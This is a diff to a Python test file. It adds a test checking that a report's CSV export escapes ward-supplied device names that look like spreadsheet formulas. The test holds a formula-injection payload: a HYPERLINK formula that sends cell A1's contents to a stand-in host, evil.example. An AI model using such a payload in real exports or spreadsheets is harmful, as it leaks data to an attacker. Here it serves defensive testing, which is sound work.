@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import time
 from collections.abc import Iterator
@@ -346,3 +348,24 @@ def test_a_chain_told_only_by_replayed_changes_gives_exact_seconds_through_the_a
         assert k1["degraded_s"] == pytest.approx(900, abs=0.01)  # 15 min degraded: not 90 s, and no unknown
         assert k1["online_s"] == pytest.approx(1200 + 900 + (seen_until - back), abs=0.01)
         assert k1["unknown_s"] == pytest.approx((t0 - begin) + (end - seen_until), abs=0.01)  # never in the cut
+
+
+def test_a_ward_supplied_name_cannot_run_as_a_formula_in_the_csv(site: tuple[str, CenterIngest]) -> None:
+    base, center = site
+    ward = Ward(center.config.mqtt.port, client_id="ward-w1-names")
+    before = center.ingest.messages
+    now = time.time()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    ward.send("c1/health", health_message("c1", evil, "online", now - 60, now))
+    ward.send("c2/health", health_message("c2", "-2+3", "online", now - 7200, now))
+    assert wait_until(lambda: center.ingest.messages >= before + 2 and not center.ingest.pending, 10)
+    with httpx.Client(base_url=base) as c:
+        assert login(c, "op", PASSWORD).status_code == 303
+        today = time.strftime("%Y-%m-%d")  # a period the page keeps no computed copy of
+        got = c.get(f"/report.csv?period=custom&start={today}&end={today}")
+        rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
+    names = {r[1]: r[2] for r in rows[1:]}
+    assert names["c1"] == "'" + evil
+    assert names["c2"] == "'-2+3"
+    assert rows[-1][2] == "Toàn thành phố"  # ordinary cells untouched
+    ward.stop()
